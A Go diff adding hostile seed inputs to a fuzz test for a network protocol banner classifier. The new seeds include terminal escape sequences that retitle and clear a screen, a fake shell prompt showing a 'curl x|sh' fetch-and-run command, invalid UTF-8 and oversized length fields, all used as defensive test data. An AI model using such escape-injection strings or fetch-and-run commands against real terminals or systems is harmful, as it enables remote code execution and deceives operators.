@@ -185,6 +185,9 @@ func FuzzClassify(f *testing.F) {
 		"HTTP/1.1 200 OK\r\n\r\n", "SSH-2.0-x\r\n", "220 x ESMTP\r\n", "+OK\r\n", "* OK\r\n", "-ERR x\r\n",
 		"\x4a\x00\x00\x00\x0a8.0\x00", "\x05\x00\x00\x00\xff\x01\x02#", "E\x00\x00\x00\x08SFATAL\x00", "\x15\x03\x03\x00\x02\x02\x28",
 		"\x16\x03\x01\x00\x05\x01", "\x00\x00\x00\x0awhoami", "\xff\xfb", "RFB 003.008\n", "AMQP\x00",
+		// Hostile: an endless header cut at MaxKeep, NUL, CR without LF, invalid UTF-8, ESC sequences, a huge length.
+		"HTTP/1.1 101 Switching Protocols\r\nX-Long: " + strings.Repeat("a", MaxKeep), "SSH-2.0-\x00\x00", "220 \rSMTP\r",
+		"\xff\xfe\xc3\x28", "\x1b]0;owned\x07\x1b[2J\r\n$ curl x|sh\n", "\x7f\xff\xff\xffpayload", "E\xff\xff\xff\xffSM\x00",
 	} {
 		f.Add([]byte(s), []byte("GET / HTTP/1.1\r\n"))
 	}
